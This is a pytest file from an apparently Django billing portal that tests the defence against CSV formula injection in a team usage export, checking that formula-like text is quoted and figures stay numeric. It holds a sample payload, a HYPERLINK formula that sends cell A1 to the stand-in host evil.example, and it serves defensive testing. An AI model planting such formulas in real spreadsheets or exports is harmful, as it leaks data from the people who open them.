"""The CSV a lead hands to finance never holds a formula: a text cell that a spreadsheet would run (OWASP's "CSV
injection") is written with a leading `'`; the figures stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse

from billing import services
from billing.choices import LineKind
from billing.views import spreadsheet_text
from portal.choices import Role
from tests.billing.conftest import at
from tests.factories import MembershipFactory, UserFactory

pytestmark = pytest.mark.usefixtures("compiled_translations")
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_starts_like_a_formula_is_quoted(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Spill into A800", "2026-03", "", None, Decimal("-12.50"), Decimal("3"), 7])
def test_other_cells_are_written_as_they_are(value):
    assert spreadsheet_text(value) == value


def test_a_pool_named_like_a_formula_is_no_formula_in_the_csv(client, team, reserved_pool, reservation, pod):
    reserved_pool.name = FORMULA
    reserved_pool.save(update_fields=["name"])
    pod(at(2, 10), at(2, 12), gpus=6)  # overage: a line named after the pool
    with time_machine.travel(at(2, month=4), tick=False):
        services.close_month(month=at(1).date(), now=at(2, month=4))
    lead = MembershipFactory(team=team, role=Role.LEAD, user=UserFactory(language="zh-hans")).user
    client.force_login(lead)
    answer = client.get(reverse("billing:team_usage_csv", args=[team.slug, "2026-03"]))
    rows = list(csv.reader(io.StringIO(answer.content.decode())))
    overage = next(row for row in rows if row and row[0] == LineKind.OVERAGE)
    # In Chinese the description starts with the pool's name.
    assert overage[7] == "'" + FORMULA + " 中超出预留的用量"
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    assert Decimal(overage[5]) > 0  # the figures are still numbers
